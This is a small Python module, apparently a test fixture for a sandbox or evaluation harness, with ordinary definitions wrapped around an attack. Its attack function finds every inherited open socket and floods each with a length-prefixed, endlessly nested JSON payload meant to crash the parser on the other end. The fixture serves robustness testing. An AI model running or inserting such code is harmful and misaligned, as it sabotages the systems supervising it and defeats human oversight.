# tries: answer with JSON that is nested without end
# keeps: before f after
before = 1


def f(n):
    return 2 * n


import os
import socket
import stat


def sockets():
    for fd in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                yield fd
        except OSError:
            continue


import struct

DEEP = b'{"reply":' + b"[" * 200_000


def attack(n):
    for fd in sockets():
        os.write(fd, struct.pack("<II", len(DEEP), 0) + DEEP)
    return 0


after = 2
